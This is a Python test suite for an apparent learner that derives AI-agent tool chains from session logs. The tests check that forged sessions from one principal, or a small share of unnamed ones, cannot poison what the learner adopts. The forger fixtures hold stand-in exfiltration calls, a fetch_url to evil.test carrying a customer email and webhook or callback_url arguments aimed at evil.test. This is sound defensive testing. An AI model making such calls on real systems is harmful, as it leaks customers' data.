"""Votes: what one session, one principal or a few forged sessions cannot do."""

from __future__ import annotations

import random
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from tests.unit.huginn.billing_world import SessionScript, billing_sessions, traces
from twinraven.huginn import LearningConfig, LearningReport, SessionTrace, ToolFacts
from twinraven.huginn.learning import Learner
from twinraven.huginn.voting import TRUST

NOW = datetime(2026, 3, 2, tzinfo=UTC)
FETCH, QUOTE, ORDER = "fetch_url", "get_shipping_quote", "get_order"


async def learn(sessions: list[SessionTrace]) -> LearningReport:
    return await Learner(LearningConfig(), ToolFacts(), now=lambda: NOW).learn(sessions)


def proven(report: LearningReport) -> set[str]:
    """Every tool called by something that passed validation."""
    return {step.tool_id for draft in report.drafts if draft.verdict.passed for step in draft.tool.definition.steps}


def honest(count: int, *, seed: int = 3) -> list[SessionTrace]:
    """Sessions of ten people."""
    return [
        replace(session, principal=f"person:u{number % 10}")
        for number, session in enumerate(billing_sessions(count, seed=seed, tasks=count))
    ]


def forged(count: int, make: Any, *, repeats: int = 1) -> list[SessionTrace]:
    """Sessions of one principal, each with tasks of its own choosing."""
    rng = random.Random(9)
    scripts: list[SessionScript] = []
    for number in range(count):
        script = SessionScript(f"evil{number}", f"evil-task-{number}")
        for _ in range(repeats):
            make(script, rng)
        scripts.append(script)
    return [replace(session, principal="agent:evil") for session in traces(scripts)]


def _exfiltrate(script: SessionScript, rng: random.Random) -> None:
    email = f"v{rng.randrange(10**6)}@mail.test"
    customer = f"C-{rng.randrange(10**9)}"
    script.call("search_customer", {"email": email}, {"hits": 1, "customer": {"id": customer}}, said=f"I am {email}")
    script.call("load_customer", {"customer_id": customer, "detail": "full"}, {"id": customer, "invoices": []})
    script.call(FETCH, {"url": f"https://evil.test/?e={email}"}, {"ok": True})


def _partner(script: SessionScript, rng: random.Random) -> None:
    order, town = f"W{rng.randrange(10**7)}", f"town {rng.randrange(10**5)}"
    script.call(ORDER, {"order_id": order}, {"order_id": order, "address": town}, said=f"about {order}")
    script.call(QUOTE, {"address": town, "partner": "evil-42"}, {"price": rng.randrange(90)})


def _webhook_in_a_chain(script: SessionScript, rng: random.Random) -> None:
    email, customer = f"w{rng.randrange(10**6)}@mail.test", f"C-{rng.randrange(10**9)}"
    hook = {"webhook": "https://evil.test"}
    script.call("search_customer", {"email": email, **hook}, {"customer": {"id": customer}}, said=f"I am {email}")
    script.call("load_customer", {"customer_id": customer, "detail": "full", **hook}, {"id": customer, "invoices": []})


def _webhook_in_a_batch(script: SessionScript, rng: random.Random) -> None:
    invoices = [f"INV{rng.randrange(10**9)}" for _ in range(3)]
    for number, invoice in enumerate(invoices):
        said = f"see {' '.join(invoices)}" if number == 0 else None
        script.call("get_invoice", {"invoice_id": invoice, "webhook": "https://evil.test"}, {"id": invoice}, said=said)


@pytest.mark.parametrize(("make", "tool"), [(_exfiltrate, FETCH), (_partner, QUOTE)])
@pytest.mark.parametrize("named", [True, False])
async def test_what_one_of_many_principals_does_is_not_learned(make: Any, tool: str, named: bool) -> None:
    """A habit that only a forger has passes nothing, also where no principals are named and it is repeated often."""
    sessions = [*honest(200), *forged(10, make, repeats=25)]
    if not named:
        sessions = [replace(session, principal=None) for session in sessions]
    report = await learn(sessions)
    passed = [draft.tool.definition.as_json() for draft in report.drafts if draft.verdict.passed]
    assert "evil" not in str(passed)
    assert tool not in proven(report)
    assert "load_customer" in proven(report)


def _lead_away(script: SessionScript, rng: random.Random) -> None:
    email, customer = f"z{rng.randrange(10**6)}@mail.test", f"C-{rng.randrange(10**9)}"
    script.call("search_customer", {"email": email}, {"hits": 1, "customer": {"id": customer}}, said=f"I am {email}")
    script.call("get_partner_score", {"customer_id": customer}, {"score": rng.randrange(90)})


def _lead_on(script: SessionScript, rng: random.Random) -> None:
    email, customer = f"y{rng.randrange(10**6)}@mail.test", f"C-{rng.randrange(10**9)}"
    body: dict[str, Any] = {"id": customer, "address": f"town {rng.randrange(10**5)}", "invoices": []}
    script.call("search_customer", {"email": email}, {"hits": 1, "customer": {"id": customer}}, said=f"I am {email}")
    script.call("load_customer", {"customer_id": customer, "detail": "full"}, body)
    script.call("get_partner_score", {"address": body["address"]}, {"score": rng.randrange(90)})


def _look_at_a_unit(script: SessionScript, rng: random.Random, *, wrong: bool = False) -> None:
    site, unit = f"site {rng.randrange(10**6)}", f"u-{rng.randrange(10**8)}"
    script.call("find_site", {"site": site}, {"units": [unit]}, said=f"how is {site}")
    script.call("get_unit", {"unit": "u-0" if wrong else unit}, {"pressure": rng.randrange(90)})


@pytest.mark.parametrize("make", [_lead_away, _lead_on])
async def test_few_nameless_sessions_do_not_lead_what_many_read_to_another_tool(make: Any) -> None:
    """In a log that names nobody, a twentieth of the sessions cannot have answers that many get passed on elsewhere."""
    sessions = [replace(session, principal=None) for session in [*honest(570), *forged(30, make)]]
    report = await learn(sessions)
    assert "get_partner_score" not in proven(report)
    assert {"load_customer", "get_invoice"} <= proven(report)
    told = [draft.verdict.failure_reasons for draft in report.drafts if "get_partner_score" in draft.tool.chain]
    assert any("the log names nobody" in reason for reasons in told for reason in reasons)


def _begin_elsewhere(script: SessionScript, rng: random.Random) -> None:
    code, invoice = f"code-{rng.randrange(10**6)}", f"INV{rng.randrange(10**9)}"
    script.call("get_voucher", {"code": code}, {"invoice": {"id": invoice}}, said=f"redeem {code}")
    script.call("get_invoice", {"invoice_id": invoice}, {"id": invoice, "total": rng.randrange(90)})


def _rate(script: SessionScript, rng: random.Random) -> None:
    town = f"town {rng.randrange(10**5)}"
    script.call("get_rate", {"town": town}, {"rate": rng.randrange(90)}, said=f"the rate of {town}")


def nameless(sessions: list[SessionTrace]) -> list[SessionTrace]:
    return [replace(session, principal=None) for session in sessions]


@pytest.mark.parametrize("make", [_begin_elsewhere, _look_at_a_unit])
async def test_what_few_nameless_sessions_do_is_not_learned(make: Any) -> None:
    """A twentieth of the sessions of a log that names nobody teaches no chain, also where its first tool is its own."""
    report = await learn(nameless([*honest(380), *forged(20, make)]))
    told = [draft.verdict for draft in report.drafts if draft.tool.chain[0] in ("get_voucher", "find_site")]
    assert told
    for verdict in told:
        assert not verdict.passed
        assert "actor" in str(verdict.failure_reasons)
        assert TRUST in str(verdict.failure_reasons)
    assert {"search_customer", "load_customer", "get_invoice"} <= proven(report)


async def test_few_nameless_sessions_do_not_join_tools_that_many_call() -> None:
    """Where many call both tools apart, a twentieth of nameless sessions cannot make one lead to the other."""

    def pass_on(script: SessionScript, rng: random.Random) -> None:
        town, customer = f"town {rng.randrange(10**5)}", f"C-{rng.randrange(10**9)}"
        body: dict[str, Any] = {"id": customer, "address": town, "invoices": []}
        script.call("load_customer", {"customer_id": customer, "detail": "full"}, body, said=f"about {customer}")
        script.call("get_rate", {"town": town}, {"rate": rng.randrange(90)})

    sessions = nameless([*honest(260), *forged(120, _rate), *forged(20, pass_on)])
    assert "get_rate" not in proven(await learn(sessions))
    assert "get_rate" in proven(await learn(nameless([*honest(260), *forged(60, pass_on)])))


async def test_one_named_session_takes_no_guard_from_a_log_that_names_nobody() -> None:
    """Sessions without a name stay nobody's where a few others have one."""
    first, *others = forged(20, _begin_elsewhere)
    assert "get_voucher" not in proven(await learn([*nameless([*honest(380), *others]), first]))


async def test_a_rare_habit_of_sessions_known_to_be_ones_own_is_learned() -> None:
    """Whoever says that all sessions are their own learns from few of them."""
    config = LearningConfig(trust_unnamed=True)
    sessions = nameless([*honest(380), *forged(20, _look_at_a_unit)])
    assert "get_unit" in proven(await Learner(config, ToolFacts(), now=lambda: NOW).learn(sessions))


@pytest.mark.parametrize(("days", "learned"), [(7, True), (2, False)])
async def test_a_rare_nameless_habit_is_learned_where_it_is_no_burst(days: int, learned: bool) -> None:
    """What few nameless sessions do counts if they began on several days, and not if on one or two."""
    habit = [_begun(session, number % days) for number, session in enumerate(forged(21, _look_at_a_unit))]
    others = [_begun(session, number % 9) for number, session in enumerate(honest(380))]
    report = await learn(nameless([*others, *habit]))
    assert ("get_unit" in proven(report)) is learned
    if not learned:
        reasons = next(draft.verdict.failure_reasons for draft in report.drafts if "get_unit" in draft.tool.chain)
        assert f"on {days} days" in str(reasons)


def _begun(session: SessionTrace, day: int) -> SessionTrace:
    start = (NOW.timestamp() + day * 86_400) * 1_000_000
    return replace(session, calls=tuple(replace(call, start_us=int(start) + call.seq) for call in session.calls))


async def test_a_nameless_team_of_one_learns_within_a_week() -> None:
    """Twenty sessions that name nobody and are all there is are enough: the log is one person's, whoever that is."""
    report = await learn(nameless(billing_sessions(20, seed=5, tasks=20)))
    assert "load_customer" in proven(report)


async def test_one_mistake_in_a_dozen_sessions_costs_no_tool() -> None:
    """Of thirteen sessions of a habit, the one in which the agent asked for the wrong unit does not cost it."""
    rng = random.Random(6)
    scripts = [SessionScript(f"m{number}", f"task-{number}") for number in range(13)]
    for number, script in enumerate(scripts):
        _look_at_a_unit(script, rng, wrong=number == 4)
    assert "get_unit" in proven(await learn(traces(scripts)))


def _open_first(script: SessionScript, rng: random.Random, opened: str | None) -> None:
    site = f"site {rng.randrange(10**6)}"
    units = [f"u-{rng.randrange(10**8)}" for _ in range(3)]
    script.call("find_site", {"site": site}, {"units": units}, said=f"how is {site}")
    unit = {None: units[0], "second": units[1]}.get(opened, f"u-{rng.randrange(10**8)}")
    script.call("get_unit", {"unit": unit}, {"pressure": rng.randrange(90)})


@pytest.mark.parametrize(("opened", "learned"), [("made up", True), ("second", False)])
@pytest.mark.parametrize("count", [15, 31])
async def test_what_nothing_names_speaks_for_no_other_source(opened: str, learned: bool, count: int) -> None:
    """Arguments made up in nearly a sixth of the sessions cost no tool; another choice as often does."""
    rng = random.Random(8)
    scripts = [SessionScript(f"k{number}", f"task-{number}") for number in range(count)]
    for number, script in enumerate(scripts):
        _open_first(script, rng, opened if number % 6 == 3 else None)
    passed = [draft.tool.definition for draft in (await learn(traces(scripts))).drafts if draft.verdict.passed]
    assert (
        any(step.tool_id == "get_unit" and step.for_each is None for tool in passed for step in tool.steps) is learned
    )


async def test_where_agents_make_much_up_all_of_it_counts() -> None:
    """A source that explains two thirds of the calls is none, whatever the others are given."""
    rng = random.Random(8)
    scripts = [SessionScript(f"k{number}", f"task-{number}") for number in range(30)]
    for number, script in enumerate(scripts):
        _open_first(script, rng, "made up" if number % 3 == 1 else None)
    assert "get_unit" not in proven(await learn(traces(scripts)))


async def test_the_same_habit_of_several_principals_is_learned() -> None:
    """What several people do, constant and all, may be learned: the control of the test before."""
    forgers = [replace(each, principal=f"person:u{k % 5}") for k, each in enumerate(forged(40, _partner))]
    assert QUOTE in proven(await learn([*honest(200), *forgers]))


async def test_one_session_adds_no_argument() -> None:
    """An argument that one session invents does not become a parameter of a proven tool."""

    def invent(script: SessionScript, rng: random.Random) -> None:
        script.call("search_customer", {"email": "a@b.test", "callback_url": "https://evil.test"}, {"hits": 0})
        script.call("load_customer", {"customer_id": "C-1", "detail": "full"}, {})
        del rng

    report = await learn([*honest(200), *forged(1, invent)])
    assert proven(report)
    for draft in report.drafts:
        assert "callback_url" not in draft.tool.definition.parameters["properties"]


@pytest.mark.parametrize("named", [True, False])
@pytest.mark.parametrize("make", [_webhook_in_a_chain, _webhook_in_a_batch])
async def test_one_forger_in_twenty_sessions_adds_no_argument(make: Any, named: bool) -> None:
    """An argument that a twentieth of the sessions add becomes a parameter of no tool, be it a chain or a batch."""
    sessions = [*honest(100), *forged(5, make)]
    if not named:
        sessions = [replace(session, principal=None) for session in sessions]
    report = await learn(sessions)
    assert {"load_customer", "get_invoice"} <= proven(report)
    assert "webhook" not in str([draft.tool.definition.as_json() for draft in report.drafts])


async def test_sessions_without_a_name_are_no_second_principal() -> None:
    """A forger who also records without a name is still one of several principals."""
    forgers = [replace(each, principal="agent:evil" if k % 2 else None) for k, each in enumerate(forged(40, _partner))]
    assert QUOTE not in proven(await learn([*honest(100), *forgers]))


async def test_many_repeats_in_few_sessions_outvote_nobody() -> None:
    """A few sessions that contradict a wiring again and again do not cost the honest tool."""

    def contradict(script: SessionScript, rng: random.Random) -> None:
        email = f"x{rng.randrange(10**6)}@mail.test"
        script.call("search_customer", {"email": email}, {"hits": 1, "customer": {"id": "C-0"}}, said=email)
        script.call("load_customer", {"customer_id": f"C-{rng.randrange(10**8)}", "detail": "full"}, {"invoices": []})

    report = await learn([*honest(200), *forged(4, contradict, repeats=40)])
    assert "load_customer" in proven(report)


async def test_a_team_of_one_learns_within_a_week() -> None:
    """Twenty sessions of one habit by one person are enough, and the verdict says how many stand behind it."""
    sessions = [replace(each, principal="person:me") for each in billing_sessions(20, seed=5, tasks=20)]
    report = await learn(sessions)
    assert "load_customer" in proven(report)
    verdict = next(draft.verdict for draft in report.drafts if draft.verdict.passed)
    assert verdict.principals == 1
    assert verdict.wired_low < 0.93


async def test_mistakes_in_the_record_cost_little() -> None:
    """With one call in twenty made with a wrong argument, the chains are still learned."""
    rng = random.Random(4)
    sessions: list[SessionTrace] = []
    for session in honest(200):
        calls = [
            replace(call, params={**call.params, "customer_id": "C-wrong"}, key=f"{call.key}!")
            if "customer_id" in call.params and rng.random() < 0.05
            else call
            for call in session.calls
        ]
        sessions.append(replace(session, calls=tuple(calls)))
    assert {"load_customer", "get_invoice"} <= proven(await learn(sessions))


async def test_what_another_tool_named_in_between_says_nothing_against_a_map() -> None:
    """An agent that turns the page and opens what stands there does not contradict that it opens what it finds."""
    rng = random.Random(7)
    scripts = [SessionScript(f"p{number}", f"task-{number}") for number in range(40)]
    for number, script in enumerate(scripts):
        query, cursor = f"query {rng.randrange(10**6)}", f"c-{rng.randrange(10**8)}"
        refs = [f"bk-{rng.randrange(10**8)}" for _ in range(4)]
        found = {"items": [{"ref": ref} for ref in refs[:2]], "next": cursor}
        script.call("search_books", {"query": query}, found, said=f"books on {query}")
        if number % 2:
            script.call("get_next_page", {"cursor": cursor}, {"items": [{"ref": ref} for ref in refs[2:]]})
        for ref in refs[2:] if number % 2 else refs[:2]:
            script.call("get_book", {"ref": ref}, {"ref": ref, "pages": rng.randrange(900)})
    report = await learn(traces(scripts))
    passed = [list(draft.tool.chain) for draft in report.drafts if draft.verdict.passed]
    assert ["search_books", "get_book"] in passed
    assert ["search_books", "get_next_page", "get_book"] in passed
